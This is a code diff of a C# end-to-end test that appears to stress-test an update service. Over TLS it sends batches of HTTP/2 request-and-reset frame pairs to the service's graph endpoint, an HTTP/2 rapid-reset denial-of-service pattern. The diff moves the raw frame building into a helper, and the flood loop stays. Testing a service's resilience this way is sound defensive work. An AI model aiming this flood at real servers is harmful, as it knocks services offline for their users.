@@ -1,10 +1,9 @@
-using System.Buffers.Binary;
 using System.Diagnostics;
 using System.Net;
 using System.Net.Security;
 using System.Net.Sockets;
 using System.Security.Cryptography.X509Certificates;
-using System.Text;
+using UpdateService.Attacks.Streams;
 using Xunit.Abstractions;
 
 namespace UpdateService.EndToEnd.Tests.Attacks;
@@ -15,10 +14,7 @@ public sealed class StreamAttackTests(ITestOutputHelper output)
     private const string Graph = "/api/upgrades_info/graph?channel=stable-4.18";
     private const int Attackers = 4;
     private const int PairsAtOnce = 200;
-    private const byte Headers = 1;
-    private const byte Reset = 3;
-    private const byte Settings = 4;
-    private const byte EndOfAll = 5;
+    private const int DefaultWindow = 65_535;
     private const int LastStream = int.MaxValue - 2;
 
     private static readonly TimeSpan Duration = TimeSpan.FromSeconds(5);
@@ -79,7 +75,7 @@ public sealed class StreamAttackTests(ITestOutputHelper output)
             var reading = ReadAllAsync();
             try
             {
-                await tls.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])]);
+                await tls.WriteAsync(Frames.Beginning(DefaultWindow));
                 for (var stream = 1; stream < LastStream && !reading.IsCompleted && Stopwatch.GetElapsedTime(started) < Duration; stream += 2 * PairsAtOnce)
                 {
                     await tls.WriteAsync(Pairs(stream));
@@ -115,27 +111,13 @@ public sealed class StreamAttackTests(ITestOutputHelper output)
 
     private static byte[] Pairs(int first)
     {
-        // Three pairs of HPACK's table, the path and a host: GET https://a/…
-        byte[] request = [0x82, 0x87, 0x04, (byte)Graph.Length, .. Encoding.ASCII.GetBytes(Graph), 0x01, 1, (byte)'a'];
         var bytes = new List<byte>();
         for (var pair = 0; pair < PairsAtOnce; pair++)
         {
-            bytes.AddRange(Frame(Headers, EndOfAll, first + (2 * pair), request));
-            bytes.AddRange(Frame(Reset, 0, first + (2 * pair), [0, 0, 0, 8]));
+            bytes.AddRange(Frames.Request(first + (2 * pair), Graph));
+            bytes.AddRange(Frames.Reset(first + (2 * pair)));
         }
 
         return [.. bytes];
-    }
-
-    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
-    {
-        var frame = new byte[9 + payload.Length];
-        frame[1] = (byte)(payload.Length >> 8);
-        frame[2] = (byte)payload.Length;
-        frame[3] = type;
-        frame[4] = flags;
-        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
-        payload.CopyTo(frame, 9);
-        return frame;
     }
 }
